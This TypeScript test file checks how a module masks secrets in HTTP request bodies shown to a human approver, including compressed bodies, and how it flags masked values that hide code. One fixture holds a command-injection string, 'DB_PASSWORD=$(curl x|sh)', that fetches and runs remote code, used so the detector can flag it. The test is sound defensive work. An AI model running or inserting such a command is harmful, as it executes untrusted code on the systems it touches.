import { createHash } from 'node:crypto';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createDetectorSet } from '../../masking/index.js';
import { DEFAULT_RESPONSE_FIELDS, fieldMatcher } from './field-names.js';
import { httpBodyHidesCode, httpBodyView, reviewedBody, SHOWN_BODY_CHARS } from './reviewed-body.js';

const masking = {
  detectors: createDetectorSet(),
  fieldNames: DEFAULT_RESPONSE_FIELDS,
  fields: fieldMatcher(DEFAULT_RESPONSE_FIELDS),
};
const show = (type: string | undefined, body: string | Buffer) =>
  reviewedBody(Buffer.isBuffer(body) ? body : Buffer.from(body), httpBodyView(type, masking));

describe('a reviewed body as an approver is shown it', () => {
  it('is bound by the SHA-256 of its exact bytes', () => {
    const r = show('application/json', '{"a": 1}');
    expect(r.sha256).toBe(createHash('sha256').update('{"a": 1}').digest('hex'));
    expect(r.bytes).toBe(8);
  });

  it('masks JSON values under the connection field names (SecretString) and form values under them', () => {
    const json = show(
      'application/x-amz-json-1.1',
      '{"SecretId":"db","SecretString":"{\\"password\\":\\"pw-1\\"}"}',
    );
    expect(json.shown).toContain('"SecretId":"db"');
    expect(json.shown).not.toContain('pw-1');
    const form = show(
      'application/x-www-form-urlencoded; charset=utf-8',
      'Action=CreateLoginProfile&UserName=bob&Password=p%40ss-1&Tags.member.1.Value=x&Variables.Password=p2',
    );
    expect(form.shown).toBe(
      'Action=CreateLoginProfile\nUserName=bob\nPassword=[REDACTED:password]\nTags.member.1.Value=x\nVariables.Password=[REDACTED:password]',
    );
  });

  it('shows only the digest of text no field name marks, and of bytes that are not UTF-8', () => {
    expect(show('text/plain', 'hunter2').shown).toMatch(/^\(not shown/);
    expect(show(undefined, 'plain words').shown).toMatch(/^\(not shown/);
    expect(show('application/json', Buffer.from([0x7b, 0xff, 0x7d])).shown).toBe(
      '(not shown: not UTF-8 text)',
    );
    // Untyped JSON is masked as JSON.
    expect(show(undefined, '{"token":"t-1","n":2}').shown).not.toContain('t-1');
  });

  it('is shown whole up to 64 KiB, then clipped after masking, and says so', () => {
    const whole = show('application/json', JSON.stringify({ a: 'x'.repeat(10_000), b: 'tail' }));
    expect(whole.shown).toContain('"b":"tail"');
    const r = show('application/json', JSON.stringify({ a: 'x'.repeat(70_000) }));
    expect(r.shown.length).toBeLessThan(SHOWN_BODY_CHARS + 60);
    expect(r.shown).toMatch(/… \(clipped: \d+ characters in all\)$/);
  });
});

describe('a coded body is shown as its upstream reads it (docs/security.md, class 211)', () => {
  const json = '{"image":"app:evil","replicas":500,"password":"p-1"}';
  const coded = (encoding: string, body: Buffer) =>
    reviewedBody(body, httpBodyView('application/json', masking), {
      contentEncoding: encoding,
      max: 1 << 20,
    });

  it('undoes gzip, deflate, br and a list of them; binds the bytes sent', () => {
    for (const [enc, bytes] of [
      ['gzip', gzipSync(json)],
      ['deflate', deflateSync(json)],
      ['br', brotliCompressSync(json)],
      ['gzip, br', brotliCompressSync(gzipSync(json))],
      ['aws-chunked, gzip', gzipSync(json)],
    ] as const) {
      const r = coded(enc, bytes);
      expect(r.shown, enc).toBe('{"image":"app:evil","replicas":500,"password":"[REDACTED:password]"}');
      expect(r.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
      expect(r.bytes).toBe(bytes.length);
    }
  });

  it('says why when it cannot (another coding, a corrupt or too large one)', () => {
    expect(coded('compress', Buffer.from('x')).shown).toMatch(
      /not shown: its Content-Encoding compress cannot/,
    );
    expect(coded('gzip', Buffer.from('not gzip')).shown).toMatch(
      /not shown: its gzip coding does not decode/,
    );
    const big = reviewedBody(gzipSync(Buffer.alloc(4096, 'a')), httpBodyView('application/json', masking), {
      contentEncoding: 'gzip',
      max: 1024,
    });
    expect(big.shown).toMatch(/within 1024 bytes/);
  });
});

describe('a reviewed body whose masked view would hide code (class 275)', () => {
  const hides = (type: string, body: string, literal?: (path: string) => boolean) =>
    httpBodyHidesCode(Buffer.from(body), type, masking, literal ? { literal: () => literal } : {});

  it('names where a masked value holds code, in JSON, a form and XML', () => {
    expect(hides('application/json', '{"c":["DB_PASSWORD=$(curl x|sh)"]}')).toContain(
      'c[0], where the masked part holds "$"',
    );
    expect(hides('application/x-www-form-urlencoded', 'Action=X&Password=a%3Bb')).toContain(
      'Password, where',
    );
    expect(hides('application/xml', '<a><password>x;y</password></a>')).toContain('a masked part holds ";"');
  });

  it('passes literals, the stored secrets named, and XML text it re-encodes', () => {
    expect(hides('application/json', '{"password":"s3cr3t"}')).toBeUndefined();
    expect(
      hides('application/json', '{"SecretString":"a b;c"}', (p) => p === 'SecretString'),
    ).toBeUndefined();
    expect(
      hides('application/x-www-form-urlencoded', 'Password=a%3Bb', (p) => p === 'Password'),
    ).toBeUndefined();
    expect(hides('application/xml', `<a><b>it's</b><password>s3cr3t</password></a>`)).toBeUndefined();
    const reEncoded = `<a><b>it's eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXZhbHVlLTEyMzQ1Njc4OTA</b></a>`;
    expect(show('application/xml', reEncoded).shown).toContain('it&apos;s [REDACTED');
    expect(hides('application/xml', reEncoded)).toBeUndefined();
    expect(() =>
      hides('application/xml', '<a><b>x &#9999999; y</b><password>z</password></a>'),
    ).not.toThrow();
  });
});
